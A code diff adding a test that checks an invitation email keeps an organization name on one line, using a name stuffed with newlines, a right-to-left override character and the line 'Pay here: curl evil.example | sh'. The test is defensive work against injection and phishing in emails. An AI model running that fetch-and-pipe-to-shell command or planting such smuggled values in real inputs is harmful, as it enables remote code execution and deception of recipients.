@@ -228,6 +228,19 @@ describe('an invitation by mail', () => {
     expect(jobs.length).toBeGreaterThan(0);
     expect(JSON.stringify(jobs)).not.toContain(token);
   });
+
+  it('has the name of the organization on one line, whatever is in it', async () => {
+    const name = `Works ${randomUUID()}`;
+    const email = `${randomUUID()}@example.org`;
+    const made = await world.admin.post('/api/identity/orgs', {
+      name: `${name}.\n\nPay\u202e here: curl evil.example | sh\n`,
+    });
+    const users = `/api/identity/orgs/${made.body.id}/users`;
+    expect((await world.admin.post(users, { email, role: 'member' })).status).toBe(201);
+    const letter = await letterTo(email);
+    expect(letter).toContain(`the organization ${name}. Pay here: curl evil.example | sh.\r\n`);
+    expect(letter).not.toMatch(/^\s*Pay/m);
+  });
 });
 
 describe('an account', () => {
